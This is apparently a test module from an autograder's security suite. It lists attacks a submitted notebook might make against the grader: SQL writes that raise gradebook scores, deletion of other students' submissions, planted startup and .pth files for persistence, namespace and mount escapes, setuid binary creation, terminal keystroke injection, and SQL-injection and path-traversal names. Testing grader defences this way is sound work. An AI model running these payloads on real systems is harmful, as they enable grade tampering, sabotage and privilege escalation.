"""Writing what is not theirs.

What fails here fails in silence: nothing was changed, so there is nothing to tell.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from grader.attacks import (
    NOTEBOOK,
    SOLVED,
    UNSOLVED,
    Aftermath,
    Attack,
    Base,
    answer_attack,
    cell_attack,
    cell_named,
    json_attack,
)

CODE = ("unusual code",)

FORGED = "2001-02-03 04:05:06 UTC"

RAISE_GRADES = """\
import sqlite3
try:
    base = sqlite3.connect({address})
    base.execute("update grade set auto_score = 99, manual_score = 99, extra_credit = 99")
    base.commit()
    print({reached})
except sqlite3.Error:
    pass
"""


def _believes_its_time(aftermath: Aftermath) -> str | None:
    told = aftermath.submission.get("timestamp")
    return "its own timestamp was believed" if told and str(told).startswith("2001") else None


def _forged_time(base: Base) -> Mapping[str, bytes]:
    return {**base.half.as_files(), "timestamp.txt": FORGED.encode()}


def _files_for_the_grader(base: Base) -> Mapping[str, bytes]:
    """Return files under names that Python, Jupyter, nbgrader, pytest or a shell would load."""
    source = RAISE_GRADES.format(address=repr(base.prizes.gradebook), reached="1").encode()
    names = (
        *("nbgrader_config.py", "jupyter_config.py", "jupyter_server_config.py", "conftest.py"),
        *("sitecustomize.py", "usercustomize.py", "__init__.py", "01_data.py", "torch.py"),
        *("numpy.py", "json.py", "nbformat.py", "glasslab.py", "grader.py", "setup.py"),
        *("glasslab_responder.py", ".ipython/profile_default/startup/00.py", "torch/__init__.py"),
    )
    files = dict.fromkeys(names, source)
    files["x.pth"] = b"import os; exec(open('torch.py').read())"
    files["jupyter_nbconvert_config.json"] = json.dumps({"Exporter": {"filters": {}}}).encode()
    files["pytest.ini"] = b"[pytest]\naddopts = -p sitecustomize"
    files["Makefile"] = b"all:\n\tpython torch.py\n"
    files[".env"] = b"GLASSLAB_GRADEBOOK_URL=sqlite:////dev/null"
    return {**base.half.as_files(), **files}


def _other_notebooks(base: Base) -> Mapping[str, bytes]:
    """Return a submission that brings other units' and learners' notebooks with it."""
    full = base.full.as_bytes()
    names = ("03_attention.ipynb", "sub/01_data.ipynb", "01_data.ipynb.partial", "01_Data.ipynb")
    return {**base.half.as_files(), **dict.fromkeys(names, full)}


def _climbing_names(data: Any) -> None:
    """Give cells names that would be paths where a name makes a file."""
    for number, cell in enumerate(data["cells"]):
        name = "../" * (number + 3) + "gradebook.db"
        if cell["metadata"].get("nbgrader", {}).get("grade_id") not in (SOLVED, "why_positive"):
            cell["id"] = name
        cell.setdefault("attachments", {})[name] = {"text/plain": "x"}
        cell["metadata"] |= {"name": name, "path": name, "filename": name, "output_files_dir": name}
    data["metadata"] |= {"name": "../../gradebook", "title": "/etc/passwd", "path": "../secret"}


def _injections(data: Any) -> None:
    for number, text in enumerate(("'; update grade set auto_score = 99; --", "%s%s%n", "{0}")):
        data["cells"].insert(
            0,
            {
                "cell_type": "code",
                "id": text,
                "source": f"# {text}",
                "outputs": [],
                "execution_count": None,
                "metadata": {
                    "nbgrader": {
                        "grade_id": text,
                        "points": 99,
                        "schema_version": 3,
                        "grade": True,
                        "solution": bool(number),
                        "locked": False,
                        "task": False,
                        "checksum": text,
                    }
                },
            },
        )
    cell_named(data, UNSOLVED)["source"] = "x = '''\"; drop table grade; --'''"


ATTACKS = (
    cell_attack(
        "writing/gradebook",
        "full marks, written straight into the gradebook",
        RAISE_GRADES.format(address="GRADEBOOK", reached="REACHED")
        + RAISE_GRADES.format(address="'gradebook.db'", reached="'a gradebook of its own'"),
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/gradebook-lock",
        "a lock on the gradebook that is never let go",
        "import subprocess, sys\n"
        "code = '''import sqlite3, sys, time\n"
        "base = sqlite3.connect(sys.argv[1])\n"
        "base.execute('begin exclusive')\n"
        "time.sleep(3600)'''\n"
        "subprocess.Popen([sys.executable, '-c', code, GRADEBOOK], start_new_session=True)\n"
        "import os\n"
        "for name in (GRADEBOOK + '-journal', GRADEBOOK + '-wal', GRADEBOOK + '-shm'):\n"
        "    try:\n"
        "        open(name, 'wb').write(b'x' * 4096)\n"
        "        print(REACHED)\n"
        "    except OSError:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/other-submissions",
        "the class's submissions are emptied, and the attacker's own is handed in for all",
        "import glob, os, shutil\n"
        "for top in (SUBMISSIONS, '/proc/1/root' + SUBMISSIONS):\n"
        "    best = top + '/neighbour-full/01_data/01_data.ipynb'\n"
        "    for path in [*glob.glob(top + '/*/*/*'), best]:\n"
        "        for act in (os.unlink, lambda one: open(one, 'w').write('{}'),\n"
        "                    lambda one: os.rename(one, one + '.old'), os.mkdir):\n"
        "            try:\n"
        "                act(path)\n"
        "                print(REACHED)\n"
        "            except OSError:\n"
        "                pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/installed-packages",
        "code in packages, start-up files and path files, for whoever starts Python next",
        "import glob, os, site, sys, sysconfig\n"
        "import glasslab, glasslab_responder, IPython, torch\n"
        "code = 'import builtins\\nbuiltins.planted = True\\n'\n"
        "folders = [*sys.path, *site.getsitepackages(), sys.prefix, sys.base_prefix, '/usr/bin',\n"
        "           sysconfig.get_paths()['stdlib'], '/etc', '/usr/local/bin', '/opt/responder']\n"
        "for module in (glasslab, glasslab_responder, IPython, torch):\n"
        "    folders.append(os.path.dirname(module.__file__))\n"
        "for folder in filter(None, folders):\n"
        "    for name in ('sitecustomize.py', 'planted.pth', '__init__.py', 'ld.so.preload'):\n"
        "        try:\n"
        "            open(os.path.join(folder, name), 'a').close()\n"
        "            if not folder.startswith('/tmp'):\n"
        "                print(REACHED, folder)\n"
        "        except OSError:\n"
        "            pass",
        told=CODE,
        keeps=True,
    ),
    *(
        cell_attack(
            f"writing/start-up-files-{name}",
            "start-up files in the home folder and modules in /tmp, for the next kernel to load",
            "import builtins, glob, os, site\n"
            "if getattr(builtins, 'planted', None) or '__planted__' in os.environ:\n"
            "    print(REACHED)\n"
            "home = os.path.expanduser('~')\n"
            "for path in (f'{home}/.ipython/profile_default/startup/0.py',\n"
            "             f'{site.getusersitepackages()}/usercustomize.py',\n"
            "             f'{home}/.config/matplotlib/matplotlibrc', '/tmp/torch.py',\n"
            "             f'{home}/.jupyter/jupyter_config.py', '/tmp/0.pth', '/tmp/json.py',\n"
            "             f'{home}/.profile', f'{home}/.bashrc', f'{os.getcwd()}/glasslab.py'):\n"
            "    try:\n"
            "        if os.path.exists(path):\n"
            "            print(REACHED)\n"
            "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
            "        open(path, 'w').write('import builtins\\nbuiltins.planted = True\\n')\n"
            "    except OSError:\n"
            "        pass",
            keeps=True,
        )
        for name in ("once", "again")
    ),
    cell_attack(
        "writing/mounts",
        "mounts, another root, other namespaces: to lay a folder of one's own over the real one",
        "import ctypes, os, platform, subprocess\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "x86 = platform.machine() == 'x86_64'\n"
        "tries = [libc.mount(b'none', b'/tmp', b'tmpfs', 0, None),\n"
        "         libc.mount(b'/tmp', b'/opt', None, 4096, None), libc.umount2(b'/proc', 2),\n"
        "         libc.mount(None, b'/', None, 32 | 4096, None), libc.chroot(b'/tmp'),\n"
        "         libc.unshare(0x10000000), libc.unshare(0x00020000), libc.sethostname(b'x', 1),\n"
        "         libc.syscall(155 if x86 else 41, b'/tmp', b'/tmp'),\n"
        "         libc.syscall(428, -100, b'/', 0), libc.syscall(430, b'tmpfs', 0)]\n"
        "for name in ('mnt', 'net', 'user', 'pid'):\n"
        "    try:\n"
        "        tries.append(libc.setns(os.open(f'/proc/1/ns/{name}', os.O_RDONLY), 0))\n"
        "    except OSError:\n"
        "        pass\n"
        "for flag in ('--user', '--mount', '--net', '-Urm'):\n"
        "    tries.append(-subprocess.run(['/usr/bin/unshare', flag, '/bin/true'],\n"
        "                                 capture_output=True).returncode)\n"
        "if any(one >= 0 for one in tries):\n"
        "    print(REACHED, tries)",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/settings-of-the-machine",
        "settings under /proc/sys, emergency keys, control groups, another user, more priority",
        "import glob, os\n"
        "paths = ['/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger',\n"
        "         '/proc/1/oom_score_adj', '/proc/1/mem', '/proc/sys/vm/overcommit_memory',\n"
        "         '/proc/self/uid_map', '/proc/self/setgroups', '/proc/sys/net/ipv4/ip_forward',\n"
        "         '/proc/1/attr/current', '/proc/sys/kernel/hostname', '/sys/power/state',\n"
        "         '/dev/mem', '/dev/rtc0',\n"
        "         *glob.glob('/sys/fs/cgroup/*'), *glob.glob('/proc/1/fd/[3-9]*')]\n"
        "for path in paths:\n"
        "    try:\n"
        "        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))\n"
        "        if path not in ('/proc/self/uid_map', '/proc/self/setgroups'):\n"
        "            print(REACHED, path)\n"
        "        else:\n"
        "            open(path, 'w').write('0 0 1')\n"
        "            print(REACHED, path)\n"
        "    except OSError:\n"
        "        pass\n"
        "for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),\n"
        "            lambda: os.setpriority(0, 0, -5), lambda: os.sched_setscheduler(\n"
        "                0, os.SCHED_FIFO, os.sched_param(10))):\n"
        "    try:\n"
        "        act()\n"
        "        print(REACHED)\n"
        "    except OSError:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/programs-of-root",
        "programs that run as root whoever starts them, and such a program of one's own",
        "import glob, os, shutil, stat, subprocess\n"
        "found = [path for path in glob.glob('/usr/*bin/*') if os.path.isfile(path)\n"
        "         and os.stat(path).st_mode & 0o6000]\n"
        "shutil.copy('/usr/bin/id', '/tmp/id')\n"
        "os.chmod('/tmp/id', 0o6755)\n"
        "for path in found[:30]:\n"
        "    one = subprocess.Popen([path], stdin=-3, stdout=-3, stderr=-3)\n"
        "    try:\n"
        "        lines = open(f'/proc/{one.pid}/status').read().splitlines()\n"
        "        if any(line[:4] == 'Uid:' and '0' in line.split() for line in lines):\n"
        "            print(REACHED, path)\n"
        "    except OSError:\n"
        "        pass\n"
        "    one.kill(); one.wait()\n"
        "if b'uid=0' in subprocess.run(['/tmp/id'], capture_output=True).stdout:\n"
        "    print(REACHED)\n"
        "try:\n"
        "    os.chown('/tmp/id', 0, 0)\n"
        "    print(REACHED)\n"
        "except OSError:\n"
        "    pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/typed-into-the-terminal",
        "commands typed into the grader's terminal, by ioctl and by the terminal's own name",
        "import fcntl, glob, os\n"
        "for path in ['/dev/tty', '/dev/console', '/dev/pts/0', '/proc/1/fd/0', '/proc/1/fd/1',\n"
        "             *glob.glob('/dev/pts/[0-9]*'), *glob.glob('/dev/tty[0-9]*')]:\n"
        "    try:\n"
        "        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)\n"
        "    except OSError:\n"
        "        continue\n"
        "    for number in (0x5412, 0x541C, 0x540E):\n"
        "        try:\n"
        "            for letter in b'echo\\n':\n"
        "                fcntl.ioctl(terminal, number, bytes([letter]))\n"
        "            print(REACHED, path, hex(number))\n"
        "        except OSError:\n"
        "            pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/kernel-sockets",
        "the files of the kernel's sockets are replaced by ones that a forger listens on",
        "import glob, os, socket\n"
        "kept = []\n"
        "for path in glob.glob('/tmp/**/*kernel*', recursive=True) + glob.glob('/run/**/*'):\n"
        "    try:\n"
        "        os.unlink(path)\n"
        "        one = socket.socket(socket.AF_UNIX)\n"
        "        one.bind(path)\n"
        "        one.listen(100)\n"
        "        kept.append(one)\n"
        "    except OSError:\n"
        "        pass",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "writing/word-to-the-zygote",
        "orders to whatever forks kernels: through its pipes, its sockets and by signals",
        "import os, signal, socket, stat\n"
        "for number in range(3, 1024):\n"
        "    try:\n"
        "        kind = os.fstat(number).st_mode\n"
        "        link = os.readlink(f'/proc/self/fd/{number}')\n"
        "    except OSError:\n"
        "        continue\n"
        "    if 'glasslab' in link or 'memfd' in link:\n"
        "        print(REACHED, link)\n"
        "for pid in {0, 1, os.getppid()} - {0, os.getpid()}:\n"
        "    for number in (signal.SIGCONT, signal.SIGUSR1, signal.SIGCHLD):\n"
        "        try:\n"
        "            os.kill(pid, number)\n"
        "        except OSError:\n"
        "            pass",
    ),
    answer_attack(
        "writing/models-in-hand",
        "the examiner's own arrays, changed in place by the answer to a question",
        "import torch\n"
        "def unwrapped_embedding(W_E):\n"
        "    W_E.zero_()\n"
        "    W_E.set_(torch.zeros(0))\n"
        "    return W_E",
    ),
    Attack(
        "writing/time",
        "a file in the submission says that it came early",
        _forged_time,
        told=("claimed time", "no receipt"),
        keeps=True,
        also=_believes_its_time,
    ),
    Attack(
        "writing/files-for-the-grader",
        "files beside the notebook under names that Python, nbgrader, pytest or a shell loads",
        _files_for_the_grader,
        told=("planted configuration",),
        keeps=True,
    ),
    Attack(
        "writing/other-notebooks",
        "notebooks beside the notebook: another unit's, another case, a half-written file of ours",
        _other_notebooks,
        told=("stray file",),
        keeps=True,
    ),
    json_attack(
        "writing/climbing-names",
        "paths for names of cells, attachments and of the notebook",
        _climbing_names,
    ),
    json_attack(
        "writing/injections",
        "SQL and format strings for names of graded cells",
        _injections,
        keeps=True,
    ),
    Attack(
        "writing/learner-s-name",
        "a learner's name that is SQL and a format string",
        lambda base: {NOTEBOOK: base.half.as_bytes()},
        student="a'; drop table grade; --%s{0}",
        keeps=True,
    ),
    Attack(
        "writing/hidden-name",
        "a learner's name that climbs out of the folder, and that nbgrader doesn't list",
        lambda base: {NOTEBOOK: base.half.as_bytes()},
        student="..secret",
        refused=True,
    ),
)
